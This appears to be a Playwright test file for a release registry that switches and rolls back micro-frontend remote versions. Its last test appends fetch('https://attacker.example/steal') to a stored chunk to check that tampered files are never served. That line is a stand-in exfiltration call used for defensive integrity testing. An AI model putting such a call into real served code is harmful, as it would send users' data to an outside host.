import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from '../support/fixtures';
import { contentRelease, startReleaseSite } from '../support/release-site';

const databaseUrl = process.env.DATABASE_URL;
test.skip(!databaseUrl, 'The release registry tests need PostgreSQL (DATABASE_URL), as .ci/run provides.');
test.describe.configure({ mode: 'serial' });

let site: Awaited<ReturnType<typeof startReleaseSite>>;

test.beforeAll(async () => {
  test.setTimeout(120_000);
  site = await startReleaseSite({ kind: 'postgres', url: databaseUrl! });
  const [blue, green] = [await site.build('mf-content', 'blue'), await site.build('mf-content', 'green')];
  await site.remotes('publish', 'mf-content', '--from', blue, '--version', '2.0.0-blue', '--reason', 'blue release');
  await site.remotes('publish', 'mf-content', '--from', green, '--version', '2.1.0-green', '--reason', 'green release');
});
test.afterAll(async () => site?.stop());

test('activating and rolling back a remote changes what new page loads get, with the same shell', async ({ page }) => {
  const shellBefore = fs.readFileSync(path.resolve(import.meta.dirname, '../../shell/dist/index.html'), 'utf8');

  await site.remotes('activate', 'mf-content', '2.0.0-blue', '--reason', 'launch');
  expect(await site.releaseShown(page)).toBe('blue');

  const started = Date.now();
  await site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'new copy');
  expect(await site.releaseShown(page)).toBe('green');
  test.info().annotations.push({
    type: 'activation-to-page-load',
    description: `${Date.now() - started} ms including the CLI and one page load`,
  });

  expect(await site.remotes('rollback', 'mf-content', '--reason', 'typo in the new copy')).toContain(
    'rolled back from 2.1.0-green to 2.0.0-blue',
  );
  expect(await site.releaseShown(page)).toBe('blue');

  const health = await (await page.request.get(`${site.baseUrl}/api/health`)).json();
  expect(health.remotes['mf-content']).toBe('2.0.0-blue');
  expect(fs.readFileSync(path.resolve(import.meta.dirname, '../../shell/dist/index.html'), 'utf8')).toBe(shellBefore);
});

test('no page load fails while releases switch under it', async ({ page }) => {
  // Thirteen page loads and three switches: over 30 s when the machine also runs the other tests.
  test.setTimeout(90_000);
  const seen = new Set<string>();
  const switching = (async () => {
    for (const version of ['2.1.0-green', '2.0.0-blue', '2.1.0-green']) {
      await site.remotes('activate', 'mf-content', version, '--reason', 'switch under load');
    }
  })();
  for (let load = 0; load < 12; load += 1) seen.add(await site.releaseShown(page));
  await switching;
  seen.add(await site.releaseShown(page));
  expect([...seen].every((release) => release === 'blue' || release === 'green')).toBe(true);
  expect(seen.has('green')).toBe(true);
});

test('an open page takes the release now active at its next navigation into the remote', async ({ page }) => {
  expect(await site.releaseShown(page)).toBe('green');
  const navigateTo = async (link: string, path: string) => {
    await page.getByRole('banner').getByRole('link', { name: link }).click();
    await expect(page).toHaveURL(`${site.baseUrl}${path}`);
  };

  await site.remotes('rollback', 'mf-content', '--reason', 'back to blue');
  await navigateTo('Leadership', '/leadership');
  await expect(contentRelease(page)).toHaveAttribute('data-release', 'blue');
  await expect(page.locator('html[data-hydrated]')).toHaveCount(1);

  await site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'green again');
  await navigateTo('Manifesto', '/manifesto');
  await expect(contentRelease(page)).toHaveAttribute('data-release', 'green');
});

test('a broken active release shows the fallback, and rolling back restores the page', async ({
  page,
  expectProblems,
}) => {
  expectProblems(
    /is unavailable:|RUNTIME-\d+|Failed to load resource|Loading chunk|ChunkLoadError|Refused to execute script/,
  );
  // The store loses one of green's page chunks, as a half-synced CDN would.
  const exposeChunks = fs
    .readdirSync(path.join(site.storeDir, 'mf-content/2.1.0-green/static/js/async'))
    .filter((file) => file.startsWith('__federation_expose_About'));
  for (const file of exposeChunks) fs.rmSync(path.join(site.storeDir, 'mf-content/2.1.0-green/static/js/async', file));

  await page.goto(`${site.baseUrl}/about`);
  await expect(page.getByRole('heading', { name: 'This page is temporarily unavailable' })).toBeVisible();

  await site.remotes('rollback', 'mf-content', '--reason', 'green lost a chunk');
  expect(await site.releaseShown(page)).toBe('blue');
});

test('a copy that lost files is fetched whole again from the shared store before a switch, and a changed file is never served', async ({
  page,
}) => {
  // Since the test above, green's copy in this gateway's cache lacks its About chunks; the shared store has them.
  await site.remotes('activate', 'mf-content', '2.1.0-green', '--reason', 'try green again');
  expect(await site.releaseShown(page)).toBe('green');

  const chunks = path.join(site.storeDir, 'mf-content/2.0.0-blue/static/js/async');
  const careers = fs
    .readdirSync(chunks)
    .find((file) => file.startsWith('__federation_expose_Careers') && file.endsWith('.js'))!;
  fs.appendFileSync(path.join(chunks, careers), '\nfetch("https://attacker.example/steal")');
  expect(
    (await page.request.get(`${site.baseUrl}/releases/mf-content/2.0.0-blue/static/js/async/${careers}`)).status(),
  ).toBe(404);
  expect(await site.releaseShown(page)).toBe('green');
});
